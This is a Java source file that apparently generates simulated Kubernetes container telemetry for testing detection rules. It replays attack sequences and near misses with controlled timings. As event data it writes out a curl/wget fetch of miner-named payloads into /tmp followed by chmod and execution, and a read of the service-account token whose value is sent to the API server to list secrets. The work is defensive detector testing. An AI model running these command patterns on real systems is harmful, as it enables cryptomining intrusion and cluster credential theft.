package io.ncwatch.generate;

import io.ncwatch.generate.ExpectedSequence.Behaviour;
import java.util.List;

/**
 * The attacks that Elastic's container sequence rules look for, each played by hand in a {@code kubectl
 * exec} shell, and their near misses, which break exactly one condition of the behaviour. The timings
 * keep a margin of at least 0.4 s from every span, so the verdict never hangs on a millisecond. Each
 * attack records the sequences it plays; a near miss records none of its own behaviour.
 */
final class SequenceAttacks {
    /** The spans of the behaviours, in milliseconds: a sequence counts when its last event is at most this after its first. */
    private static final long INGRESS_SPAN = 10_000;
    private static final long FILE_EXEC_SPAN = 3_000;
    private static final long TOKEN_SPAN = 60_000;
    private static final long INTERACTIVE_REQUEST_SPAN = 1_000;
    private static final String ROOT = "0";
    private static final int NOBODY = 65534;
    private static final List<String> DOWNLOAD_HOSTS = List.of("192.0.2.14", "192.0.2.77", "203.0.113.9");
    private static final List<String> PAYLOADS = List.of("kdevtmpfsi", "kinsing", "xmrig", "dbused", "sysupdate");
    private static final List<String> DROPPED = List.of(".ICE-unix-x", ".font-cache", "updater", ".s");
    private static final List<String> WRITABLE = List.of("/tmp", "/var/tmp", "/dev/shm");
    private static final List<String> API_RESOURCES = List.of("secrets", "pods", "configmaps");
    private static final String TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    /** What the shell expands {@code $(cat token)} to: a made-up, truncated token. */
    private static final String BEARER = "Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6Im5jd2F0Y2gtZ2VuIn0";

    private SequenceAttacks() {}

    /** Plans {@code scenario}, one of the non-netcat ones, in {@code e}. */
    static void plan(Scenario scenario, Episode e) {
        switch (scenario) {
            case INGRESS_TRANSFER -> ingressTransfer(e, 300, 2_000);
            case INGRESS_TRANSFER_SLOW -> ingressTransfer(e, 7_000, 14_000);
            case INGRESS_TRANSFER_KEPT -> ingressTransfer(e, -1, -1);
            case FILE_EXEC -> fileExec(e, 300, 800, false);
            case FILE_EXEC_SLOW -> fileExec(e, 4_000, 20_000, false);
            case FILE_EXEC_OTHER_USER -> fileExec(e, 300, 800, true);
            case TOKEN_API -> tokenApi(e, 3_000, 30_000, false);
            case TOKEN_API_SLOW -> tokenApi(e, 62_000, 90_000, false);
            case TOKEN_API_OTHER_POD -> tokenApi(e, 3_000, 30_000, true);
            default -> throw new IllegalArgumentException(scenario.cliName() + " is a netcat scenario");
        }
    }

    /**
     * {@code curl -sSLo /tmp/NAME URL} (or wget), {@code chmod +x}, run it: 4 to 6 s from download to run,
     * so never within the 3 s of a file-exec. Then the payload deletes itself {@code deleteAfter} ms after
     * it starts; negative: it never does.
     */
    private static void ingressTransfer(Episode e, long deleteAfterMin, long deleteAfterMax) {
        SimProcess shell = kubectlExec(e);
        String name = e.pick(PAYLOADS);
        String path = e.pick(WRITABLE) + "/" + name;
        String url = "http://" + e.pick(DOWNLOAD_HOSTS) + "/" + name;
        Command download = e.random.nextBoolean()
                ? Command.of("/usr/bin/curl", "curl", "-sSLo", path, url)
                : Command.of("/usr/bin/wget", "wget", "-qO", path, url);
        ProcessEvent fetch = e.execJob(shell, download);
        e.pause(200, 1_500);
        FileEvent created = e.file(FileEvent.Action.CREATION, fetch.process, path);
        e.end(fetch.process, 0);
        e.pause(2_000, 3_000);
        chmod(e, shell, path);
        e.pause(2_000, 3_000);
        ProcessEvent run = e.execJob(shell, Command.of(path, path));
        if (deleteAfterMin >= 0) {
            e.pause(deleteAfterMin, deleteAfterMax);
            FileEvent deleted = e.file(FileEvent.Action.DELETION, run.process, path);
            if (deleted.timestamp - created.timestamp <= INGRESS_SPAN) {
                e.sequence(Behaviour.INGRESS_TRANSFER, List.of(e.container.id, ROOT, name), created, run, deleted);
            }
        }
        e.pause(20_000, 60_000);
        e.end(run.process, 0);
        e.end(shell, 0);
    }

    /**
     * The shell writes a file itself ({@code printf ... > /tmp/NAME}: a builtin, so the shell is the
     * creating process), {@code chmod +x}, then runs it {@code runAfter} ms after the chmod, as root or,
     * through {@code runuser -u nobody}, as another user.
     */
    private static void fileExec(Episode e, long runAfterMin, long runAfterMax, boolean otherUser) {
        SimProcess shell = kubectlExec(e);
        String path = e.pick(WRITABLE) + "/" + e.pick(DROPPED);
        FileEvent created = e.file(FileEvent.Action.CREATION, shell, path);
        e.pause(300, 800);
        chmod(e, shell, path);
        e.pause(runAfterMin, runAfterMax);
        ProcessEvent run;
        SimProcess runuser = null;
        if (otherUser) {
            runuser = e.execJob(shell, Command.of("/usr/sbin/runuser", "runuser", "-u", "nobody", "--", path)).process;
            run = e.execAs(runuser, Command.of(path, path), NOBODY);
        } else {
            run = e.execJob(shell, Command.of(path, path));
        }
        if (!otherUser && run.timestamp - created.timestamp <= FILE_EXEC_SPAN) {
            e.sequence(Behaviour.FILE_EXEC, List.of(e.container.id, ROOT, path), created, run);
        }
        e.pause(5_000, 30_000);
        e.end(run.process, 0);
        if (runuser != null) {
            e.end(runuser, 0);
        }
        e.end(shell, 0);
    }

    /**
     * {@code cat} of the service account token, then {@code apiAfter} ms later curl calls the API server
     * with it, and 0.1 to 0.6 s after curl starts the API server logs the request: from this pod, or from
     * another pod of the same deployment.
     */
    private static void tokenApi(Episode e, long apiAfterMin, long apiAfterMax, boolean otherPod) {
        SimProcess shell = kubectlExec(e);
        ProcessEvent cat = e.execJob(shell, Command.of("/bin/cat", "cat", TOKEN));
        FileEvent opened = e.file(FileEvent.Action.OPEN, cat.process, TOKEN);
        e.end(cat.process, 0);
        e.pause(apiAfterMin, apiAfterMax);
        String resource = e.pick(API_RESOURCES);
        String url = "https://kubernetes.default.svc/api/v1/namespaces/" + e.container.app.namespace() + "/" + resource;
        ProcessEvent curl = e.execJob(shell, Command.of("/usr/bin/curl", "curl", "-sk", "-H", BEARER, url));
        e.pause(100, 600);
        String pod = otherPod ? otherPodOfDeployment(e) : e.container.podName;
        AuditEvent request = e.apiRequest(pod, "list", resource);
        if (!otherPod && request.timestamp - opened.timestamp <= TOKEN_SPAN) {
            e.sequence(Behaviour.TOKEN_API, List.of(pod), opened, request);
        }
        if (!otherPod && request.timestamp - curl.timestamp <= INTERACTIVE_REQUEST_SPAN) {
            e.sequence(Behaviour.INTERACTIVE_API_REQUEST, List.of(pod), curl, request);
        }
        e.pause(20, 200);
        e.end(curl.process, 0);
        e.pause(2_000, 20_000);
        e.end(shell, 0);
    }

    /** An attacker's root shell entered with {@code kubectl exec -it}, a few seconds before the attack. */
    private static SimProcess kubectlExec(Episode e) {
        SimProcess shell = e.execEntered(Command.of("/bin/bash", "bash"), true, 0, e.container.app.workingDirectory())
                .process;
        e.pause(2_000, 15_000);
        return shell;
    }

    private static void chmod(Episode e, SimProcess shell, String path) {
        ProcessEvent chmod = e.execJob(shell, Command.of("/bin/chmod", "chmod", "+x", path));
        e.pause(2, 20);
        e.end(chmod.process, 0);
    }

    /** The pod name with another replica suffix: a pod of the same deployment outside this fleet. */
    private static String otherPodOfDeployment(Episode e) {
        String pod = e.container.podName;
        String other;
        do {
            StringBuilder suffix = new StringBuilder();
            for (int i = 0; i < 5; i++) {
                suffix.append("bcdfghjklmnpqrstvwxz2456789".charAt(e.random.nextInt(27)));
            }
            other = pod.substring(0, pod.lastIndexOf('-') + 1) + suffix;
        } while (other.equals(pod));
        return other;
    }
}
